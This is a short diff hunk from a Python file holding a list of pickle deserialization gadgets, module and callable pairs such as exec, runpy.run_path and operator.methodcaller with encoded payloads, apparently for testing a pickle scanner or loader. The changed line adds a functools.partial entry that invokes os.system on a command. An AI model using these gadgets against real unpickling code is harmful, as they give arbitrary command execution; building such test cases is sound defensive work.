@@ -96,7 +96,7 @@ GADGETS: list[tuple[str, str, bytes]] = [
     ("__builtins__", "exec", su("x=1")),
     ("_operator", "attrgetter", su("system")),
     ("operator", "methodcaller", su("system") + su(CMD)),
-    ("functools", "partial", b""),
+    ("functools", "partial", sg("os", "system") + su(CMD)),
     ("_functools", "reduce", b""),
     ("runpy", "run_path", su("/tmp/x.py")),
     ("runpy", "_run_code", su("x=1") + b"}"),
